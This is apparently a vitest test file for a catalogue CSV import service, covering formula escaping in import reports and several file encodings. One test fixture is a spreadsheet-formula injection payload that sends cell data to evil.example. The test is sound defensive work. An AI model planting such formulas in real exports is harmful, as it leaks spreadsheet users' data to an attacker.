import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { records } from "../../db/schema";
import { upload, useCatalogueAdmin } from "../../tests/setup/catalogue-admin";
import { createCatalogueImportService, type CatalogueImportService } from "./catalogue-import";

const admin = useCatalogueAdmin();
let service: CatalogueImportService;

beforeAll(() => {
  service = createCatalogueImportService(admin.t.db, { importDir: admin.importDir });
});

const header = "catalogue_number,title,artist,price";
const stored = (catalogNumber: string) => admin.t.db.select().from(records).where(eq(records.catalogNumber, catalogNumber)).get();

describe("an import's report", () => {
  it("writes a title a spreadsheet would run as a formula with an apostrophe in front, before and after applying", async () => {
    const title = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    const csv = [header, `REP-1,"${title.replaceAll('"', '""')}",-M-,9.99`, "@REP-2,Fine,Band,nope"].join("\n");
    const preview = await service.previewImport(upload(csv));
    const before = parse(await service.importReport(preview.id, preview.hash)) as string[][];
    expect(before.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ["2", "to create", "REP-1", `'${title}`],
      ["3", "error", "'@REP-2", "Fine"],
    ]);
    await service.applyImport(admin.actor, { id: preview.id, hash: preview.hash, onlyValid: true });
    const after = parse(await service.importReport(preview.id, preview.hash)) as string[][];
    expect(after.slice(1).map((r) => r.slice(0, 4))).toEqual([
      ["2", "created", "REP-1", `'${title}`],
      ["3", "skipped", "'@REP-2", "Fine"],
    ]);
    expect(stored("REP-1")).toMatchObject({ title, artist: "-M-" });
  });
});

describe("reading an import file", () => {
  it("previews and imports every row when the header ends in CRLF and the rows in LF", async () => {
    const csv = `${header}\r\nMIX-1,One,Band,1.00\nMIX-2,Two,Band,2.00\nMIX-3,Three,Band,3.00\n`;
    const preview = await service.previewImport(upload(csv));
    expect(preview.plan.counts).toEqual({ create: 3, update: 0, unchanged: 0, error: 0, copy: 0, skip: 0 });
    const { result } = await service.applyImport(admin.actor, { id: preview.id, hash: preview.hash, onlyValid: false });
    expect(result).toMatchObject({ created: 3 });
    expect(stored("MIX-3")).toMatchObject({ title: "Three" });
  });

  it("reads a Windows-1252 (Latin-1) file's accents, says how it read it, and stores them so", async () => {
    // "LAT-1,Café,Motörhead,9.99" as a Latin-1 spreadsheet saves it: é is 0xE9, ö is 0xF6.
    const row = Buffer.from([...Buffer.from("LAT-1,Caf"), 0xe9, ...Buffer.from(",Mot"), 0xf6, ...Buffer.from("rhead,9.99\r\n")]);
    const file = Buffer.concat([Buffer.from(`${header}\r\n`), row]);
    const preview = await service.previewImport(upload(file));
    expect(preview.encoding).toBe("Windows-1252");
    expect(preview.plan.rows[0]).toMatchObject({ action: "create", fields: { title: "Café", artist: "Motörhead" } });
    expect(await service.importState(preview.id, preview.hash)).toMatchObject({ state: "pending", encoding: "Windows-1252" });
    await service.applyImport(admin.actor, { id: preview.id, hash: preview.hash, onlyValid: false });
    expect(stored("LAT-1")).toMatchObject({ title: "Café", artist: "Motörhead" });
  });

  it("reads UTF-8 with a byte order mark, and Excel's Unicode text (UTF-16, tab-separated)", async () => {
    const bom = await service.previewImport(upload(`\uFEFF${header}\nBOM-1,Café,Band,1.00\n`));
    expect(bom.encoding).toBe("UTF-8");
    expect(bom.plan.rows[0]).toMatchObject({ action: "create", fields: { title: "Café" } });
    const unicodeText = `${header.replaceAll(",", "\t")}\r\nU16-1\tCafé\tBand\t1.00\r\n`;
    const utf16 = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(unicodeText, "utf16le")]);
    const preview = await service.previewImport(upload(utf16));
    expect(preview.encoding).toBe("UTF-16");
    expect(preview.plan.fileError).toBeNull();
    expect(preview.plan.rows[0]).toMatchObject({ action: "create", fields: { catalogNumber: "U16-1", title: "Café" } });
  });
});
